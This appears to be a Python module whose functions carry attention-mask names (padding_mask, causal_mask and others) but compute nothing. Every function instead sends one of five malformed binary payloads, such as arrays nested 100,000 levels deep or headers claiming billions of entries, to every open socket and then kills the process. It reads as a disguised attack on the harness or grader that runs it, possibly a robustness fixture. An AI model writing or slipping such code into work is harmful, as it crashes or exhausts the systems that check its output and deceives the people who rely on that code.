"""Answers with a document ten thousand levels deep, with one that claims 4 billion entries, and with rubbish."""
import os
import stat
import struct

TEXTS = [b"\x91" * 100_000 + b"\xc0", b"\xdd\xff\xff\xff\xff", b"\xdf\xff\xff\xff\xff", b"\xc1\xff\x00", b"\xc9\xff\xff\xff\xff\x01"]


def send(which):
    frame = struct.pack(">4sHQ", b"ATTN", 1, len(TEXTS[which])) + TEXTS[which]
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, frame)
        except OSError:
            pass
    os._exit(0)


def padding_mask(lengths, max_len=None):
    send(0)


def causal_mask(length):
    send(1)


def window_mask(length, radius):
    send(2)


def strided_mask(length, stride):
    send(3)


def combine_masks(key_padding, attention):
    send(4)
